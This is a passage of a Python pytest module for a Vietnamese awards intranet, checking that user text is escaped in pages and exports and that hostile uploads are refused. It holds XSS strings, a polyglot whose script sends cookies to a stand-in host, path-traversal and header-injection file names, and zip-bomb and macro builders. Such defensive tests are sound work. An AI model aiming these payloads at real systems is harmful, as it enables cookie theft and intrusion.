"""Hostile input end to end: what a user types or uploads never runs, in a page or in an export.

1. Script in every text a user enters (units, accounts, the campaign, nominations, the board's session,
   review comments, strike reasons, uploaded file names) comes back escaped in every page that shows it and
   as literal text in the Word, Excel and PDF exports.
2. A text starting with = + - @ is never a formula in an Excel export: only the intended totals are.
3. Uploads: executables, HTML and SVG under a document's name, polyglots, zip bombs, macros, empty and
   oversized files are refused on both upload routes (a unit's report and a nomination's dossier) with a
   Vietnamese message, a 4xx and nothing left behind; so are file names with a path, a control or
   invisible character or over 255 characters (markup in a name is kept, as text); downloads are
   attachments that a browser never sniffs.
4. Web defaults: the headers on every kind of response, Secure cookies when configured, CSRF on htmx,
   a fresh session at login, the password policy.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import struct
import subprocess
import zipfile
import zlib
from datetime import date
from decimal import Decimal
from pathlib import Path
from urllib.parse import quote

import pytest
from docx import Document
from markupsafe import escape
from openpyxl import load_workbook
from werkzeug.http import parse_options_header

from ntm_intranet.auth.models import User
from ntm_intranet.awards.models import AwardList
from ntm_intranet.campaigns.models import Campaign, Milestone
from ntm_intranet.extensions import db
from ntm_intranet.nominations.models import AwardForm, Nomination, NominationFile, ScoringCriterion
from ntm_intranet.org.models import Unit
from ntm_intranet.reports.models import ReportFile, Submission
from ntm_intranet.voting import services as voting
from ntm_intranet.voting.models import BoardSession

from .. import factories
from ..conftest import BALLOT_PASSPHRASE, PASSWORD, csrf_token, login, post
from .test_uploads import (
    CONTROL_REFUSED,
    DOCM_CONTENT_TYPES,
    DOCUMENT_XML,
    EMPTY,
    MACRO,
    NOT_A_DOCUMENT,
    PATH_REFUSED,
    PDF_ACTIVE,
    TOO_BIG,
    TOO_LONG_NAME,
    WORD_CONTENT_TYPES,
    ZIP_BOMB,
    alerts,
    disposition_name,
    files_in,
    pdf_bytes,
    png_bytes,
    tmp_is_empty,
    zip_bomb,
    zip_bytes,
)

ACTIVE_CONTENT = "có chứa mã HTML hoặc JavaScript ẩn bên trong: không nhận."
CSRF_MESSAGE = "Biểu mẫu đã hết hạn hoặc thiếu mã bảo mật (CSRF)"

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
JS_URL = "javascript:alert(1)"
FORMULA_LEADS = ("=", "+", "-", "@")


def hostile(tag: str, lead: str = "") -> str:
    """A text carrying the three classic payloads, told apart by its tag (and maybe a formula's first sign)."""
    return f"{lead}{tag} {SCRIPT} {IMG} {JS_URL}"


def short(tag: str) -> str:
    """For the columns of 40 characters."""
    return f"{tag}{SCRIPT}"


def escaped(text: str) -> str:
    return str(escape(text))


# A payload that ran would need one of these in the page's markup; escaped text never has them.
_RAW_MARKERS = ("<script>alert", "<img src=x")
_JS_IN_ATTRIBUTE = re.compile(r"""\b(?:href|src|action|formaction|data|xlink:href)\s*=\s*["']?\s*javascript:""",
                              re.I)


def assert_no_raw_payload(html: str, where: str) -> None:
    for marker in _RAW_MARKERS:
        assert marker not in html, f"{where}: raw {marker!r} in the page"
    assert not _JS_IN_ATTRIBUTE.search(html), f"{where}: a javascript: URL in an attribute"


# =====================================================================================================
# 3. Uploads, on both routes
# =====================================================================================================


def _unit_id(code: str) -> int:
    return db.session.execute(db.select(Unit.id).filter_by(code=code)).scalar_one()


def _draft_nomination(code: str = "19567") -> int:
    """A draft nomination of the unit, with the one award form it needs (the demo without its board)."""
    campaign = db.session.execute(db.select(Campaign)).scalars().first()
    form = AwardForm(campaign_id=campaign.id, code="GK_HUYEN", name="Giấy khen của Chủ tịch UBND huyện",
                     coefficient=Decimal("0.3"))
    db.session.add(form)
    db.session.flush()
    nomination = Nomination(campaign_id=campaign.id, unit_id=_unit_id(code), kind="household",
                            name="Hộ ông Hồ Văn Chiến", address="Thôn An Hưng, xã Triệu Nguyên",
                            summary="Hiến 400 m² đất làm đường thôn", proposed_form_id=form.id, form_id=form.id)
    db.session.add(nomination)
    db.session.commit()
    return nomination.id


def send_raw(client, url: str, data: bytes, disposition: str, fields: dict | None = None):
    """A multipart body written by hand, for names a browser would encode (RFC 5987 `filename*`)."""
    boundary = "----ntm-hostile-boundary"
    parts = [f"--{boundary}\r\nContent-Disposition: form-data; name=\"{key}\"\r\n\r\n{value}\r\n"
             for key, value in {"csrf_token": csrf_token(client), **(fields or {})}.items()]
    body = ("".join(parts) + f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; {disposition}\r\n"
            "Content-Type: application/octet-stream\r\n\r\n").encode() + data + f"\r\n--{boundary}--\r\n".encode()
    return client.post(url, data=body, content_type=f"multipart/form-data; boundary={boundary}")


def encoded_name(name: str) -> str:
    return "filename*=UTF-8''" + quote(name, safe="")


class Route:
    """One of the two upload routes, as the unit's reporter uses it."""

    def __init__(self, name: str, client, url: str, fields: dict, page_marker: str, model):
        self.name, self.client, self.url, self.fields = name, client, url, fields
        self.page_marker, self.model = page_marker, model

    def send(self, data: bytes, filename: str):
        return post(self.client, self.url, {**self.fields, "file": (io.BytesIO(data), filename)},
                    content_type="multipart/form-data")

    def send_raw(self, data: bytes, disposition: str):
        return send_raw(self.client, self.url, data, disposition, self.fields)

    def rows(self) -> list:
        db.session.expire_all()
        return list(db.session.execute(db.select(self.model).order_by(self.model.id)).scalars())

    def download(self, row):
        prefix = "/files" if self.model is ReportFile else "/nominations/files"
        return self.client.get(f"{prefix}/{row.id}")


@pytest.fixture
def routes(demo, as_user, upload_dir) -> list[Route]:
    nomination_id = _draft_nomination()
    client = as_user("bc-19567")
    return [
        Route("report", client, f"/units/{_unit_id('19567')}/report/files?kind=report", {},
              "Báo cáo tổng kết của", ReportFile),
        Route("nomination", client, f"/nominations/{nomination_id}/files", {"kind": "to_trinh"},
              "Hộ ông Hồ Văn Chiến", NominationFile),
    ]


class Snapshot:
    """Both file tables and the upload folder now; `assert_unchanged()` after a refusal."""

    def __init__(self, root: Path):
        self.root = root
        self.files = files_in(root)
        self.rows = self._rows()

    @staticmethod
    def _rows():
        db.session.expire_all()
        return ([r.id for r in db.session.execute(db.select(ReportFile)).scalars()],
                [r.id for r in db.session.execute(db.select(NominationFile)).scalars()])

    def assert_unchanged(self):
        assert self._rows() == self.rows
        assert files_in(self.root) == self.files
        assert tmp_is_empty(self.root)


def assert_refused(route: Route, response, message: str) -> str:
    page = response.get_data(as_text=True)
    assert 400 <= response.status_code < 500, (route.name, response.status_code, page[:300])
    assert response.status_code == 422, (route.name, response.status_code)
    assert route.page_marker in page, route.name  # the page itself again, not an error page
    assert message in alerts(page), (route.name, alerts(page))
    return page


# Hostile files ---------------------------------------------------------------------------------------

ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 200
PE = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"\x80\x00\x00\x00"
      + b"This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 64 + b"PE\x00\x00" + b"\x00" * 200)
HTML_PAGE = b"<!DOCTYPE html><html><body><script>fetch('/admin/users').then(r => r.text())</script></body></html>"
SVG_SCRIPT = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" '
              b'onload="alert(document.domain)"><script>alert(document.cookie)</script></svg>')


def pdf_html_polyglot() -> bytes:
    """A real PDF whose first comment is an HTML page: a PDF to a PDF reader, a page to a sniffing browser."""
    pdf = pdf_bytes()
    header, rest = pdf.split(b"\n", 1)
    return header + b"\n%<html><body><script>document.location='//evil.example/?'+document.cookie</script>" \
                    b"</body></html>\n" + rest


def png_html_polyglot() -> bytes:
    """A valid PNG carrying a page in a text chunk."""
    png = png_bytes()
    text = b"Comment\x00<html><script>alert(document.cookie)</script></html>"
    chunk = struct.pack(">I", len(text)) + b"tEXt" + text + struct.pack(">I", zlib.crc32(b"tEXt" + text))
    return png[:33] + chunk + png[33:]  # after the 8-byte signature and the 25-byte IHDR chunk


XLSX_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>'
    '</Types>')
WORKBOOK_XML = ('<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
                'spreadsheetml/2006/main"><sheets><sheet name="Sheet1" sheetId="1"/></sheets></workbook>')
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512
# A docx whose VBA project hides under another name: only its content type gives it away.
HIDDEN_VBA_CONTENT_TYPES = WORD_CONTENT_TYPES.replace(
    "</Types>", '<Override PartName="/word/tepdinhkem.dat" ContentType="application/vnd.ms-office.vbaProject"/>'
                "</Types>")


def lie_about_size(data: bytes, name: str, stated: int) -> bytes:
    """The archive with `name`'s uncompressed size rewritten, in its local and central headers."""
    out = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info = archive.getinfo(name)
    struct.pack_into("<I", out, info.header_offset + 22, stated)
    encoded = name.encode()
    at = out.find(b"PK\x01\x02")
    while at != -1:
        name_length = struct.unpack_from("<H", out, at + 28)[0]
        if bytes(out[at + 46:at + 46 + name_length]) == encoded:
            struct.pack_into("<I", out, at + 24, stated)
        at = out.find(b"PK\x01\x02", at + 4)
    return bytes(out)


def lying_zip_bomb() -> bytes:
    """A 'docx' whose 50 MB document.xml says it is 2 KB: its ratio looks harmless."""
    honest = zip_bytes({"[Content_Types].xml": WORD_CONTENT_TYPES, "word/document.xml": bytes(50 * 1024 * 1024)})
    return lie_about_size(honest, "word/document.xml", 2048)


HOSTILE_FILES = {
    "elf-as-pdf": (lambda: ELF, "report.pdf", NOT_A_DOCUMENT),
    "elf-as-docx": (lambda: ELF, "Báo cáo tổng kết.docx", NOT_A_DOCUMENT),
    "exe-as-docx": (lambda: PE, "report.docx", NOT_A_DOCUMENT),
    "exe-as-pdf": (lambda: PE, "Tờ trình.pdf", NOT_A_DOCUMENT),
    "html-as-pdf": (lambda: HTML_PAGE, "Báo cáo tổng kết.pdf", NOT_A_DOCUMENT),
    "svg-as-png": (lambda: SVG_SCRIPT, "Ảnh hội nghị.png", NOT_A_DOCUMENT),
    "svg-as-jpg": (lambda: SVG_SCRIPT, "Ảnh hội nghị.jpg", NOT_A_DOCUMENT),
    "html-as-jpg": (lambda: HTML_PAGE, "Ảnh hội nghị.jpg", NOT_A_DOCUMENT),
    "pdf-html-polyglot": (pdf_html_polyglot, "Báo cáo tổng kết.pdf", ACTIVE_CONTENT),
    "png-html-polyglot": (png_html_polyglot, "Ảnh biên bản.png", ACTIVE_CONTENT),
    "old-word-doc": (lambda: OLE, "Báo cáo tổng kết.doc", NOT_A_DOCUMENT),
    "vba-project-in-docx": (lambda: zip_bytes({"[Content_Types].xml": WORD_CONTENT_TYPES,
                                               "word/document.xml": DOCUMENT_XML, "word/vbaProject.bin": OLE}),
                            "Báo cáo tổng kết.docx", MACRO),
    "docm-as-docx": (lambda: zip_bytes({"[Content_Types].xml": DOCM_CONTENT_TYPES, "word/document.xml": DOCUMENT_XML}),
                     "Báo cáo tổng kết.docx", MACRO),
    "vba-project-under-another-name": (lambda: zip_bytes({"[Content_Types].xml": HIDDEN_VBA_CONTENT_TYPES,
                                                          "word/document.xml": DOCUMENT_XML,
                                                          "word/tepdinhkem.dat": OLE}),
                                       "Báo cáo tổng kết.docx", MACRO),
    "xlsm-as-xlsx": (lambda: zip_bytes({"[Content_Types].xml": XLSX_CONTENT_TYPES, "xl/workbook.xml": WORKBOOK_XML,
                                        "xl/vbaProject.bin": OLE}), "Số liệu.xlsx", MACRO),
    "xlsm": (lambda: zip_bytes({"[Content_Types].xml": XLSX_CONTENT_TYPES, "xl/workbook.xml": WORKBOOK_XML}),
             "Số liệu.xlsm", MACRO),
    "zip-bomb": (zip_bomb, "Báo cáo tổng kết.docx", ZIP_BOMB),
    "zip-bomb-lying-about-its-size": (lying_zip_bomb, "Báo cáo tổng kết.docx", ZIP_BOMB),
    "empty": (lambda: b"", "Báo cáo tổng kết.pdf", EMPTY),
    "pdf-running-javascript": (lambda: pdf_bytes(catalog_extra=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> "),
                               "Tờ trình.pdf", PDF_ACTIVE),
    "pdf-launching-an-embedded-exe": (lambda: pdf_bytes(catalog_extra=b"/OpenAction << /S /Launch /F (a.exe) >> "
                                                        b"/Names << /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >> "),
                                      "Tờ trình.pdf", PDF_ACTIVE),
    "right-to-left-override-hiding-exe": (pdf_bytes, "Báo cáo\u202efdp.exe",
                                          "Tên tệp “Báo cáo�fdp.exe” " + CONTROL_REFUSED),
}


@pytest.mark.parametrize("case", list(HOSTILE_FILES))
def test_a_hostile_file_is_refused_on_both_upload_routes_and_leaves_nothing_behind(routes, upload_dir, case):
    make, filename, message = HOSTILE_FILES[case]
    data = make()
    for route in routes:
        before = Snapshot(upload_dir)
        page = assert_refused(route, route.send(data, filename), message)
        before.assert_unchanged()
        assert files_in(upload_dir) == set()
        assert "\u202e" not in page


def test_a_file_name_that_says_pdf_over_a_pdf_is_still_accepted(routes, upload_dir):
    """The control for the refusals above: the same routes take a good file."""
    for route in routes:
        response = route.send(pdf_bytes(route.name), "Báo cáo tổng kết.pdf")
        assert response.status_code == 302, alerts(response.get_data(as_text=True))
        assert [r.original_name for r in route.rows()] == ["Báo cáo tổng kết.pdf"]


@pytest.mark.config(NTM_MAX_UPLOAD_MB=1, MAX_CONTENT_LENGTH=2 * 1024 * 1024)
def test_a_file_over_the_cap_is_refused_on_both_routes_and_a_request_over_the_whole_cap_gets_413(routes,
                                                                                                upload_dir):
    big = pdf_bytes() + b"\x00" * (1536 * 1024)  # over the 1 MB file cap, within the 2 MB request cap
    huge = pdf_bytes() + b"\x00" * (3 * 1024 * 1024)
    for route in routes:
        before = Snapshot(upload_dir)
        assert_refused(route, route.send(big, "Báo cáo quét.pdf"), TOO_BIG)
        before.assert_unchanged()
        response = route.send(huge, "Báo cáo quét.pdf")
        assert response.status_code == 413 and "Tệp quá lớn" in response.get_data(as_text=True)
        before.assert_unchanged()


@pytest.mark.parametrize("bomb", [zip_bomb, lying_zip_bomb], ids=["honest-sizes", "lying-sizes"])
def test_a_zip_bomb_is_judged_without_unpacking_it(routes, upload_dir, monkeypatch, bomb):
    """The check reads the archive's directory and at most a few small parts: never the bomb's payload."""
    data = bomb()
    opened: list[str] = []
    unpacked = [0]
    real_open, real_read = zipfile.ZipFile.open, zipfile.ZipExtFile.read

    def spy_open(self, name, *args, **kwargs):
        opened.append(name.filename if isinstance(name, zipfile.ZipInfo) else name)
        return real_open(self, name, *args, **kwargs)

    def spy_read(self, n=-1):
        data = real_read(self, n)
        unpacked[0] += len(data)
        return data

    monkeypatch.setattr(zipfile.ZipFile, "open", spy_open)
    monkeypatch.setattr(zipfile.ZipExtFile, "read", spy_read)
    for route in routes:
        assert_refused(route, route.send(data, "Báo cáo tổng kết.docx"), ZIP_BOMB)
    assert "word/document.xml" not in opened
    assert unpacked[0] < 64 * 1024


# Hostile file names: a browser sends the bare name, so a path, a control or invisible character or an
# overlong name is refused on both routes (never mended); markup in a name is only ever text --------------

# (how a script sends it, the message)
REFUSED_NAMES = {
    "unix-path": ('filename="../../etc/passwd.pdf"', PATH_REFUSED),
    "windows-path": ("filename*=UTF-8''..%5C..%5Cx.pdf", PATH_REFUSED),
    "nul-and-controls": ("filename*=UTF-8''B%C3%A1o%00c%C3%A1o%07%1B%0D%0Ax.pdf", CONTROL_REFUSED),
    "right-to-left-override": ("filename*=UTF-8''Bi%C3%AAn%20b%E1%BA%A3n%E2%80%AEfdp.pdf", CONTROL_REFUSED),
    "header-injection": ("filename*=UTF-8''B%C3%A1o%20c%C3%A1o%0D%0ASet-Cookie%3A%20x%3D1%0D%0A%0D%0A.pdf",
                         CONTROL_REFUSED),
    "overlong": ("filename*=UTF-8''" + quote("Tờ trình đề nghị khen thưởng hộ gia đình tiêu biểu " * 6, safe="")
                 + ".pdf", TOO_LONG_NAME),
}


@pytest.mark.parametrize("case", list(REFUSED_NAMES))
def test_a_hostile_file_name_is_refused_on_both_upload_routes_and_leaves_nothing_behind(routes, upload_dir, case):
    disposition, message = REFUSED_NAMES[case]
    for route in routes:
        before = Snapshot(upload_dir)
        response = route.send_raw(pdf_bytes(route.name), disposition)
        page = assert_refused(route, response, message)
        before.assert_unchanged()
        assert files_in(upload_dir) == set()
        assert not (upload_dir.parent / "etc").exists()
        assert "\u202e" not in page and "\x00" not in page
        assert not [c for c in response.headers.getlist("Set-Cookie") if c.startswith("x=")]


def test_markup_in_a_file_name_is_kept_as_text_on_the_nomination_route(routes, upload_dir):
    kept = "<img src=x onerror=alert(1)>.pdf"
    route = routes[1]
    response = route.send_raw(pdf_bytes(), f'filename="{kept}"')
    assert response.status_code == 302, alerts(response.get_data(as_text=True))
    [row] = route.rows()
    assert row.original_name == kept
    assert files_in(upload_dir) == {f"{row.sha256[:2]}/{row.sha256}"}
    page = route.client.get(response.location).get_data(as_text=True)
    assert f">{escaped(kept)}</a>" in page
    assert_no_raw_payload(page, "markup in a file name")
    download = route.download(row)
    assert disposition_name(download) == kept
    download.close()


# Names a script may send (RFC 5987 `filename*`, percent-encoded), made to break the download's header with
# quotes and semicolons (line breaks are refused above).
HEADER_BREAKING_NAMES = {
    "filename*=UTF-8''a%22%3B%20filename%3D%22evil.html.pdf": 'a"; filename="evil.html.pdf',
    "filename*=UTF-8''T%E1%BB%9D%20tr%C3%ACnh%20%22s%E1%BB%91%201%22%3B%20x%3Dy.pdf": 'Tờ trình "số 1"; x=y.pdf',
}


@pytest.mark.parametrize("disposition", list(HEADER_BREAKING_NAMES))
def test_a_download_is_an_attachment_never_sniffed_under_a_header_safe_name(routes, upload_dir, disposition):
    for route in routes:
        response = route.send_raw(pdf_bytes(route.name + disposition), disposition)
        assert response.status_code == 302, alerts(response.get_data(as_text=True))
        row = route.rows()[-1]
        assert row.original_name == HEADER_BREAKING_NAMES[disposition]
        download = route.download(row)
        try:
            assert download.status_code == 200
            assert download.headers["Content-Type"] == "application/pdf"
            assert download.headers["X-Content-Type-Options"] == "nosniff"
            assert "script-src 'self'" in download.headers["Content-Security-Policy"]
            header = download.headers["Content-Disposition"]
            assert "\r" not in header and "\n" not in header
            kind, options = parse_options_header(header)
            assert kind == "attachment"
            assert options.get("filename*", options.get("filename")) == row.original_name
            assert set(options) <= {"filename", "filename*"}  # no parameter smuggled in by the name
            assert all(cookie.startswith("session=") for cookie in download.headers.getlist("Set-Cookie"))
        finally:
            download.close()


# =====================================================================================================
# 4. Web defaults
# =====================================================================================================


def _directives(csp: str) -> dict[str, list[str]]:
    return {part.split()[0]: part.split()[1:] for part in (p.strip() for p in csp.split(";")) if part}


def assert_strict_headers(response, where: str) -> None:
    csp = _directives(response.headers["Content-Security-Policy"])
    assert csp["script-src"] == ["'self'"] and csp["style-src"] == ["'self'"], where
    assert csp["default-src"] == ["'self'"] and csp["object-src"] == ["'none'"], where
    assert csp["frame-ancestors"] == ["'none'"] and csp["base-uri"] == ["'self'"], where
    assert csp["form-action"] == ["'self'"], where
    assert not any("unsafe" in value for values in csp.values() for value in values), where
    assert response.headers["X-Frame-Options"] == "DENY", where
    assert response.headers["X-Content-Type-Options"] == "nosniff", where
    assert response.headers["Referrer-Policy"] in ("same-origin", "no-referrer", "strict-origin-when-cross-origin")


def test_every_kind_of_response_carries_the_strict_headers(demo_reports, as_user):
    coordinator = as_user("nnptnt")
    file_id = db.session.execute(db.select(ReportFile.id)).scalars().first()
    responses = {
        "page": coordinator.get("/board"),
        "htmx fragment": coordinator.get("/board", headers={"HX-Request": "true"}),
        "404": coordinator.get("/khong-co"),
        "403": coordinator.get("/admin/users"),
        "csrf 400": coordinator.post("/board/remind", headers={"HX-Request": "true"}),
        "download": coordinator.get(f"/files/{file_id}"),
        "excel export": coordinator.get("/board.xlsx"),
        "word export": coordinator.get("/totals.docx"),
        "static": coordinator.get("/static/css/app.css"),
    }
    for where, response in responses.items():
        assert_strict_headers(response, where)
        response.close()


def test_templates_hold_no_inline_script_style_or_event_handler():
    """The CSP forbids them, so they would silently break; the print-only PDF templates are never served."""
    inline = re.compile(r"<script(?![^>]*\bsrc=)[^>]*>|<style\b|\sstyle=\"|\son[a-z]+=\"|javascript:", re.I)
    templates = Path(__file__).resolve().parents[2] / "templates"
    found = [f"{path.relative_to(templates)}: {match.group(0)}" for path in templates.rglob("*.html")
             if "exports" not in path.parts for match in inline.finditer(path.read_text())]
    assert found == []


def test_ntm_secure_cookies_turns_on_secure_session_cookies(monkeypatch, tmp_path):
    from ntm_intranet.config import load_config

    monkeypatch.setenv("SECRET_KEY", "k" * 32)
    monkeypatch.delenv("NTM_SECURE_COOKIES", raising=False)
    assert load_config(tmp_path)["SESSION_COOKIE_SECURE"] is False
    monkeypatch.setenv("NTM_SECURE_COOKIES", "1")
    config = load_config(tmp_path)
    assert config["SESSION_COOKIE_SECURE"] is True
    assert config["SESSION_COOKIE_HTTPONLY"] is True and config["SESSION_COOKIE_SAMESITE"] == "Lax"


@pytest.mark.parametrize("secure", [pytest.param(True, marks=pytest.mark.config(SESSION_COOKIE_SECURE=True)),
                                    pytest.param(False, marks=pytest.mark.config(SESSION_COOKIE_SECURE=False))])
def test_the_session_cookie_is_httponly_lax_and_secure_with_hsts_when_configured(app, client, secure):
    factories.user("lan")
    response = login(client, "lan")
    assert response.status_code == 302
    cookie = next(v for v in response.headers.getlist("Set-Cookie") if v.startswith("session="))
    flags = {flag.strip().lower() for flag in cookie.split(";")[1:]}
    assert "httponly" in flags and "samesite=lax" in flags
    assert ("secure" in flags) is secure
    assert ("Strict-Transport-Security" in client.get("/login").headers) is secure


def test_an_htmx_post_without_the_csrf_token_is_refused_in_vietnamese_and_changes_nothing(demo, as_user):
    from ntm_intranet.reports.models import Reminder

    coordinator = as_user("nnptnt")

    def remind_all(token=None):
        headers = {"HX-Request": "true", **({"X-CSRFToken": token} if token else {})}
        return coordinator.post("/board/remind", data={"which": "report"}, headers=headers)

    before = factories.count(Reminder)
    refused = remind_all()
    assert refused.status_code == 400
    assert CSRF_MESSAGE in refused.get_data(as_text=True)
    assert 'id="main"' in refused.get_data(as_text=True)  # htmx swaps #main: the message is shown
    wrong = remind_all("gia-mao")
    assert wrong.status_code == 400 and CSRF_MESSAGE in wrong.get_data(as_text=True)
    assert remind_all(csrf_token(as_user("admin"))).status_code == 400  # another session's token
    assert factories.count(Reminder) == before
    # the control: the page's own token, sent as htmx sends it, goes through
    sent = remind_all(csrf_token(coordinator))
    assert sent.status_code in (200, 302) and factories.count(Reminder) > before


def test_login_starts_a_fresh_session(app):
    """Nothing from before the login survives it: not a token, not what an attacker planted in the cookie."""
    factories.user("lan")
    victim = app.test_client()
    token_before = csrf_token(victim)
    planted = victim.get_cookie("session").value  # what an attacker could have set in the victim's browser
    assert login(victim, "lan").status_code == 302
    assert victim.get_cookie("session").value != planted
    # the token of the anonymous session is void after the login
    stale = victim.post("/lang", data={"lang": "vi", "csrf_token": token_before})
    assert stale.status_code == 400 and CSRF_MESSAGE in stale.get_data(as_text=True)
    # the planted cookie is still a stranger's: logging in never promoted it
    attacker = app.test_client()
    attacker.set_cookie("session", planted)
    assert attacker.get("/campaigns").status_code == 302


@pytest.mark.parametrize(("password", "message"), [
    ("Ngan-1", "Mật khẩu phải có ít nhất 10 ký tự."),
    ("khong-co-chu-so", "Mật khẩu phải có cả chữ và số."),
    ("lan-2015-lan-2015", "Mật khẩu không được chứa tên đăng nhập."),
    ("1111111111a", "Mật khẩu quá đơn giản (lặp lại ít ký tự)."),
])
def test_a_weak_new_password_is_refused_with_the_rule_it_breaks(app, client, password, message):
    factories.user("lan")
    login(client, "lan")
    response = post(client, "/password", {"current_password": PASSWORD, "new_password": password,
                                          "confirm": password})
    assert response.status_code == 200
    assert message in response.get_data(as_text=True)
    assert login(app.test_client(), "lan").status_code == 302  # the old password still works


# =====================================================================================================
# 1 and 2. Hostile text everywhere: the pages, then the exports
# =====================================================================================================

BOARD_DAY = date(2015, 7, 8)
MEMBERS = ["chutich", "noivu"] + [f"thanhvien{i}" for i in range(1, 10)]
UPLOADED_NAME = '"><img src=x onerror=alert(1)>TEPTAILEN.pdf'
NOMINATION_FILE_NAME = '"><img src=x onerror=alert(1)>TEPHOSO.docx'

# field -> the hostile text it holds (a formula's first sign on those an Excel export shows at a cell's start)
TEXTS = {
    "unit": hostile("DONVI", "="),
    "returned_unit": hostile("DONVITRA", "-"),
    "chair": hostile("CHUTICH", "@"),
    "secretary": hostile("THUKY", "+"),
    "member": hostile("THANHVIEN", "-"),
    "member_position": hostile("CHUCVU"),
    "campaign": hostile("KEHOACH", "="),
    "issuer": hostile("COQUAN"),
    "signer": hostile("NGUOIKY"),
    "legal_bases": hostile("CANCU"),
    "doc_number": short("SOVB"),
    "milestone": hostile("MOC"),
    "nomination": hostile("TENDN", "@"),
    "position": hostile("CHUCVUDN", "-"),
    "address": hostile("DIACHI", "+"),
    "summary": hostile("TOMTAT", "="),
    "screening_note": hostile("THAMDINH"),
    "form": hostile("HINHTHUC", "+"),
    "form_legal_basis": hostile("CANCUHT"),
    "criterion": hostile("TIEUCHI"),
    "criterion_description": hostile("MOTA"),
    "session": hostile("PHIENHOP", "="),
    "place": hostile("DIADIEM", "-"),
    "time": short("GIO"),
    "review": hostile("NHANXET"),
    "strike": hostile("GACHTEN"),
    "decision_number": short("SOQD"),
    "uploaded_name": UPLOADED_NAME,
    "nomination_file_name": NOMINATION_FILE_NAME,
}


def _one(model, **filters):
    return db.session.execute(db.select(model).filter_by(**filters)).scalars().first()


def _plant_hostile_texts() -> dict:
    """Overwrite the demo's texts with hostile ones, as a careless or malicious user could type them."""
    campaign = _one(Campaign, doc_number="76/KH-UBND")
    returned = _one(Submission, status="returned")
    ids = {"campaign": campaign.id, "unit": _unit_id("19567"), "returned_unit": returned.unit_id,
           "returned_reporter": f"bc-{returned.unit.code.lower()}"}
    _one(Unit, code="19567").name = TEXTS["unit"]
    returned.unit.name = TEXTS["returned_unit"]
    returned.review_comment = TEXTS["review"]
    _one(User, username="chutich").full_name = TEXTS["chair"]
    _one(User, username="noivu").full_name = TEXTS["secretary"]
    member = _one(User, username="thanhvien1")
    member.full_name, member.position = TEXTS["member"], TEXTS["member_position"]
    campaign.title, campaign.issuer, campaign.signer = TEXTS["campaign"], TEXTS["issuer"], TEXTS["signer"]
    campaign.legal_bases, campaign.doc_number = TEXTS["legal_bases"], TEXTS["doc_number"]
    milestone = db.session.execute(db.select(Milestone).filter_by(campaign_id=campaign.id)
                                   .order_by(Milestone.due_date)).scalars().first()
    milestone.title = TEXTS["milestone"]
    lam = _one(Nomination, name="Hồ Văn Lâm")
    lam.name, lam.position, lam.address, lam.summary = (TEXTS["nomination"], TEXTS["position"], TEXTS["address"],
                                                        TEXTS["summary"])
    ids["nomination"] = lam.id
    lam_file = db.session.execute(db.select(NominationFile).filter_by(nomination_id=lam.id)).scalars().first()
    lam_file.original_name = NOMINATION_FILE_NAME
    screened = _one(Nomination, status="returned")
    screened.screening_note = TEXTS["screening_note"]
    ids["returned_nomination"], ids["returned_nomination_reporter"] = screened.id, f"bc-{screened.unit.code.lower()}"
    form = lam.form
    form.name, form.legal_basis = TEXTS["form"], TEXTS["form_legal_basis"]
    criterion = _one(ScoringCriterion, campaign_id=campaign.id)
    criterion.name, criterion.description = TEXTS["criterion"], TEXTS["criterion_description"]
    session = factories.board_session()
    session.title, session.place, session.time_text = TEXTS["session"], TEXTS["place"], TEXTS["time"]
    ids["session"] = session.id
    db.session.commit()
    return ids


def _run_the_session(as_user, ids) -> dict[str, str]:
    """Everyone present votes for everyone; the session closes; the chair proposes the list, strikes a name and
    approves it.

    Returns the pages only visible along the way (the ballot sheet, flash messages after a redirect)."""
    session = db.session.get(BoardSession, ids["session"])
    campaign = db.session.get(Campaign, ids["campaign"])
    users = {u.username: u for u in db.session.execute(db.select(User).filter(User.username.in_(MEMBERS))).scalars()}
    voting.set_attendance(session, {u.id for u in users.values()})
    db.session.commit()
    voting.open_session(session, campaign, users["noivu"], BALLOT_PASSPHRASE, BALLOT_PASSPHRASE)
    pages = {"ballot": as_user("thanhvien1").get(f"/sessions/{session.id}/ballot").get_data(as_text=True)}
    for username in MEMBERS:
        voting.cast(session, campaign, users[username], factories.ballot_form(session))
    voting.close_session(session, users["noivu"], BALLOT_PASSPHRASE)
    chair = as_user("chutich")
    assert post(chair, "/awards/propose").status_code == 302
    award_list = db.session.execute(db.select(AwardList)).scalar_one()
    na = next(e for e in award_list.entries if e.nomination.name == "Hộ bà Hồ Thị Na")
    struck = post(chair, f"/awards/entries/{na.id}/strike", {"struck": "1", "reason": TEXTS["strike"]},
                  follow_redirects=True)
    assert struck.status_code == 200
    pages["after strike"] = struck.get_data(as_text=True)
    approved = post(chair, f"/awards/{award_list.id}/approve",
                    {"decision_number": TEXTS["decision_number"], "decision_date": "10/07/2015"})
    assert approved.status_code == 302, alerts(approved.get_data(as_text=True))
    ids["award_list"] = award_list.id
    assert any(e.nomination_id == ids["nomination"] and not e.struck for e in award_list.entries)
    return pages


def _upload_with_a_hostile_name(as_user, ids) -> dict[str, str]:
    reporter = as_user(ids["returned_reporter"])
    url = f"/units/{ids['returned_unit']}/report/files?kind=report"
    sent = send_raw(reporter, url, pdf_bytes("hostile name"), encoded_name(UPLOADED_NAME))
    assert sent.status_code == 302, alerts(sent.get_data(as_text=True))
